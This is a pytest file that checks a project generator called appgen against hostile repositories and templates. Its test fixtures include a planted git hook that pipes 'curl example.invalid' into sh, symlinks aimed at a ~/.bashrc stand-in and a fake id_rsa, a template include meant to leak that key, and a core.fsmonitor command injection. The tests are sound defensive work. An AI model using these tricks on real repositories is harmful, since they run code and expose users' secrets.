"""Hostile projects and templates against the generator: symlinks, .git/, template_source.

A cloned repository can hold a symlink at any name appgen writes, a ``.git/``
folder, or an ``.appgen.toml`` that points ``template_source`` anywhere. Each test
runs the real command and checks that nothing outside the target changed and that
a refusal is one line with exit code 2.
"""

from __future__ import annotations

import hashlib
import re
import subprocess
from pathlib import Path

import pytest

from appgen import catalog
from appgen.render import RenderRequest, render_project

from .cli_helpers import assert_one_line_error, run


def generate(tmp_path: Path, template: str = "demo") -> Path:
    target = tmp_path / "proj"
    render_project(RenderRequest(project_name="proj", template=catalog.find_template(template),
                                 task=None, out_dir=target))
    return target


def snapshot(folder: Path) -> dict[str, bytes | str]:
    found: dict[str, bytes | str] = {}
    for path in sorted(folder.rglob("*")):
        rel = path.relative_to(folder).as_posix()
        if path.is_symlink():
            found[rel] = f"-> {path.readlink()}"
        elif path.is_file():
            found[rel] = path.read_bytes()
    return found


@pytest.fixture
def bashrc(tmp_path: Path) -> Path:
    """A stand-in for a shell start-up file outside every project."""
    path = tmp_path / "home" / ".bashrc"
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text("# my shell settings\n")
    return path


def write_file(path: Path, text: str) -> None:
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(text)


# --------------------------------------------------------------------------- writes


def test_update_never_writes_through_links_at_its_temporary_names(
    templates_dir: Path, tmp_path: Path, bashrc: Path
) -> None:
    project = generate(tmp_path)
    # Every temporary name an older appgen used, committed as a link to ~/.bashrc.
    for rel in (".appgen.toml.tmp", ".config.toml.appgen-tmp", ".appgen/pristine.tar.gz.tmp",
                "proj/.util.py.appgen-tmp", "launch/.run.sh.appgen-tmp"):
        (project / rel).symlink_to(bashrc)
    write_file(templates_dir / "demo" / "project" / "__package__" / "util.py", "ORIGIN = 2\n")
    write_file(templates_dir / "demo" / "project" / "launch" / "run.sh", "#!/bin/sh\necho 2\n")

    code, err = run("update", str(project), "--set", "train.epochs=7")

    assert code == 0, err
    assert bashrc.read_text() == "# my shell settings\n"
    assert (project / "proj" / "util.py").read_text() == "ORIGIN = 2\n"
    assert "epochs = 7" in (project / "config.toml").read_text()
    assert (project / ".config.toml.appgen-tmp").is_symlink()  # left as it was
    assert not [p for p in project.rglob(".appgen-tmp-*")]  # no temporary file left


def test_update_refuses_a_linked_store_folder(templates_dir: Path, tmp_path: Path) -> None:
    project = generate(tmp_path)
    outside = tmp_path / "outside"
    (project / ".appgen").rename(outside)
    (project / ".appgen").symlink_to(outside)
    before = snapshot(outside)

    code, err = run("update", str(project), "--set", "train.epochs=7")

    assert_one_line_error(code, err, ".appgen", "symbolic link")
    assert snapshot(outside) == before
    assert "epochs = 10" in (project / "config.toml").read_text()  # nothing written


def test_new_force_never_writes_through_a_linked_folder(
    templates_dir: Path, tmp_path: Path
) -> None:
    outside = tmp_path / "outside"
    outside.mkdir()
    target = tmp_path / "cloned"
    target.mkdir()
    (target / "launch").symlink_to(outside, target_is_directory=True)

    code, err = run("new", "cloned", "-t", "demo", "-o", str(target), "--force")

    assert_one_line_error(code, err, "launch", "symbolic link")
    assert list(outside.iterdir()) == []
    assert [p.name for p in target.iterdir()] == ["launch"]  # nothing half-written


def test_a_template_cannot_write_into_git(templates_dir: Path, tmp_path: Path) -> None:
    hook = "#!/bin/sh\ncurl example.invalid | sh\n"
    write_file(templates_dir / "hooky" / "template.toml", 'extends = "demo"\n')
    write_file(templates_dir / "hooky" / "project" / ".git" / "hooks" / "post-checkout", hook)
    repository = tmp_path / "repo"
    subprocess.run(["git", "init", "-q", str(repository)], check=True)
    before = snapshot(repository / ".git")

    code, err = run("new", "repo", "-t", "hooky", "-o", str(repository), "--force")

    assert_one_line_error(code, err, ".git")
    assert snapshot(repository / ".git") == before
    assert [p.name for p in repository.iterdir()] == [".git"]


def test_update_never_deletes_git_files_listed_in_the_record(
    templates_dir: Path, tmp_path: Path
) -> None:
    project = generate(tmp_path)
    subprocess.run(["git", "init", "-q", str(project)], check=True)
    git_config = project / ".git" / "config"
    sha = hashlib.sha256(git_config.read_bytes()).hexdigest()
    record = project / ".appgen.toml"
    # "Unedited and no longer in the template" would make an update delete it.
    record.write_text(record.read_text() + f'".git/config" = "{sha}"\n')
    before = git_config.read_bytes()

    code, err = run("update", str(project), "--force")

    assert_one_line_error(code, err, ".git")
    assert git_config.read_bytes() == before


# --------------------------------------------------------------------------- templates


SECRET = "token=hunter2\n"


@pytest.fixture
def secrets(tmp_path: Path) -> Path:
    folder = tmp_path / "secrets"
    write_file(folder / "id_rsa", SECRET)
    return folder


@pytest.mark.parametrize("link_name", ["__pycache__", ".DS_Store", "assets"])
def test_a_template_folder_link_is_refused_whatever_its_name(
    templates_dir: Path, tmp_path: Path, secrets: Path, link_name: str
) -> None:
    folder = templates_dir / "leaky"
    write_file(folder / "template.toml", 'extends = "demo"\n')
    write_file(folder / "project" / "NOTES.md.jinja",
               f'{{% include "leaky/{link_name}/id_rsa" %}}')
    (folder / "project" / link_name).symlink_to(secrets, target_is_directory=True)

    code, err = run("new", "proj", "-t", "leaky")

    assert_one_line_error(code, err, link_name, "symbolic links are not allowed")
    assert not (tmp_path / "proj").exists()


def test_a_template_file_link_is_refused_even_inside_the_template(
    templates_dir: Path, tmp_path: Path
) -> None:
    folder = templates_dir / "linky"
    write_file(folder / "template.toml", 'extends = "demo"\n')
    write_file(folder / "project" / "real.txt", "text\n")
    (folder / "project" / ".DS_Store").symlink_to(folder / "project" / "real.txt")

    code, err = run("new", "proj", "-t", "linky")

    assert_one_line_error(code, err, ".DS_Store", "symbolic links are not allowed")
    assert not (tmp_path / "proj").exists()


def test_a_template_whose_project_folder_is_a_link_is_refused(
    templates_dir: Path, tmp_path: Path, secrets: Path
) -> None:
    folder = templates_dir / "linked"
    write_file(folder / "template.toml", 'extends = "demo"\n')
    (folder / "project").symlink_to(secrets, target_is_directory=True)

    code, err = run("new", "proj", "-t", "linked")

    assert_one_line_error(code, err, "project", "symbolic links are not allowed")
    assert not (tmp_path / "proj").exists()


def _path_template(tmp_path: Path, name: str) -> Path:
    folder = tmp_path / name
    write_file(folder / "template.toml", 'extends = "demo"\n')
    write_file(folder / "project" / "NOTES.md", "from a template you chose\n")
    return folder


def _set_record(project: Path, **values: str) -> None:
    record = project / ".appgen.toml"
    text = record.read_text()
    for key, value in values.items():
        text, count = re.subn(rf"(?m)^{key} = .*$", f"{key} = {value}", text)
        assert count == 1, key
    record.write_text(text)


def test_update_refuses_a_template_source_inside_the_project(
    templates_dir: Path, tmp_path: Path
) -> None:
    project = generate(tmp_path, str(_path_template(tmp_path, "mine")))
    # The repository ships its own "template" that reads what it likes into NOTES.md.
    evil = project / "tools" / "tmpl"
    write_file(evil / "template.toml", 'extends = "demo"\n')
    write_file(evil / "project" / "NOTES.md.jinja", "{{ 'pwned' }}\n")
    _set_record(project, template_source=f'"{evil}"')

    code, err = run("update", str(project))

    assert_one_line_error(code, err, "inside the project")
    assert (project / "NOTES.md").read_text() == "from a template you chose\n"


def test_update_refuses_a_template_name_that_is_a_path(
    templates_dir: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    project = generate(tmp_path)
    evil = project / "tmpl"
    write_file(evil / "template.toml", 'extends = "demo"\n')
    write_file(evil / "project" / "NOTES.md", "pwned\n")
    _set_record(project, template='"./tmpl"')
    monkeypatch.chdir(project)  # where a user runs `appgen update .`

    code, err = run("update", ".")

    assert_one_line_error(code, err, "not a template name")
    assert not (project / "NOTES.md").exists()


def test_update_refuses_a_template_source_that_is_not_a_template(
    templates_dir: Path, tmp_path: Path, secrets: Path
) -> None:
    project = generate(tmp_path, str(_path_template(tmp_path, "mine")))
    _set_record(project, template_source=f'"{secrets}"')
    before = snapshot(project)

    code, err = run("update", str(project))

    assert_one_line_error(code, err, "not a template folder")
    assert snapshot(project) == before


def test_template_new_does_not_copy_what_a_link_points_at(
    templates_dir: Path, tmp_path: Path, secrets: Path
) -> None:
    folder = templates_dir / "leaky"
    write_file(folder / "template.toml", 'extends = "demo"\n')
    (folder / "project" / "__pycache__").mkdir(parents=True)
    (folder / "project" / "__pycache__" / "keys").symlink_to(secrets, target_is_directory=True)
    out = tmp_path / "copied"

    code, err = run("template", "new", "mine", "--from", "leaky", "-o", str(out))

    assert_one_line_error(code, err, "keys", "symbolic links are not allowed")
    assert not out.exists()
    assert not [p for p in tmp_path.rglob("id_rsa") if not p.is_relative_to(secrets)]


def test_update_does_not_run_the_repositorys_fsmonitor(
    templates_dir: Path, tmp_path: Path
) -> None:
    project = generate(tmp_path)
    subprocess.run(["git", "init", "-q", str(project)], check=True)
    subprocess.run(["git", "-C", str(project), "add", "-A"], check=True)
    subprocess.run(["git", "-C", str(project), "-c", "user.email=t@example.com",
                    "-c", "user.name=t", "commit", "-qm", "x"], check=True)
    marker = tmp_path / "fsmonitor-ran"
    # A project handed over with its .git/: git status would run this command.
    subprocess.run(["git", "-C", str(project), "config", "core.fsmonitor",
                    f"touch {marker}; false"], check=True)

    code, err = run("update", str(project))

    assert code == 0, err
    assert not marker.exists()
